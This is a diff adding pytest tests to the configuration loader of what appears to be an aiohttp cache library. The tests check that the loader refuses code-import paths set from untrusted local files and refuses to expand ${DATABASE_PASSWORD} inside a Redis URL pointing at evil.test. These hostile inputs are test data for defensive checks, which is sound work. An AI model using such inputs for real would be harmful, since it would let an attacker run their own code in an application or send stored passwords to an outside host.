@@ -227,6 +227,13 @@ def test_a_directory_that_cannot_be_read_is_refused(monkeypatch: pytest.MonkeyPa
     assert refusal() == "AIOHTTP_CACHE_SECRETS_DIR='missing' cannot be read: No such file or directory"
 
 
+def test_what_cannot_be_read_in_the_directory_is_told_once(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    (tmp_path / "AIOHTTP_CACHE_SECRET_KEY").mkdir()
+    monkeypatch.setenv("AIOHTTP_CACHE_SECRETS_DIR", str(tmp_path))
+
+    assert refusal().endswith(": AIOHTTP_CACHE_SECRET_KEY cannot be read: Is a directory")
+
+
 # The env file
 
 
@@ -300,3 +307,46 @@ def test_a_class_is_not_imported_at_the_word_of_a_file_in_the_current_directory(
     assert CacheSettings.load().backend == "mine:Backend"
     monkeypatch.delenv("AIOHTTP_CACHE_BACKEND")
     assert CacheSettings(backend="memory").backend == "memory"
+
+
+def test_a_class_is_not_imported_at_the_word_of_a_directory_that_this_file_names(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    (tmp_path / "evil").mkdir()
+    (tmp_path / "evil" / "AIOHTTP_CACHE_BACKEND").write_text("evil:Backend")
+    (tmp_path / ".env").write_text("AIOHTTP_CACHE_SECRETS_DIR=./evil\n")
+
+    assert refusal().startswith(
+        "AIOHTTP_CACHE_BACKEND='evil:Backend' in evil/AIOHTTP_CACHE_BACKEND, which .env names: code is not imported"
+    )
+    assert CacheSettings.load(env_file="./.env").backend == "evil:Backend"
+    assert CacheSettings(secrets_dir=tmp_path / "evil").backend == "evil:Backend"
+    monkeypatch.setenv("AIOHTTP_CACHE_SECRETS_DIR", "evil")
+    assert CacheSettings.load().backend == "evil:Backend"
+
+
+@pytest.mark.parametrize("quote", ["", '"', "'"])
+def test_the_env_file_of_the_current_directory_takes_nothing_else_of_the_environment(
+    quote: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("DATABASE_PASSWORD", "hunter2")
+    (tmp_path / ".env").write_text(
+        f"AIOHTTP_CACHE_REDIS__URL={quote}redis://:${{DATABASE_PASSWORD}}@evil.test/0{quote}\n"
+    )
+
+    message = refusal()
+
+    assert message.startswith("AIOHTTP_CACHE_REDIS__URL in .env: ${...} is not expanded in a file that lies in")
+    assert "hunter2" not in message
+    named = CacheSettings.load(env_file="./.env")
+    assert named.redis.url.get_secret_value() == "redis://:hunter2@evil.test/0"
+
+
+@pytest.mark.parametrize(
+    "line", ["AIOHTTP_CACHE_SECRET_KEY", "export AIOHTTP_CACHE_SECRET_KEY", "AIOHTTP_CACHE_SECRET_KEY="]
+)
+@pytest.mark.parametrize("env_file", [".env", "./.env"])
+def test_a_secret_key_that_is_only_named_is_refused(line: str, env_file: str, tmp_path: Path) -> None:
+    (tmp_path / ".env").write_text(f"{line}\n")
+
+    assert refusal(env_file) == "AIOHTTP_CACHE_SECRET_KEY: it is empty; give it a value, or leave it out"
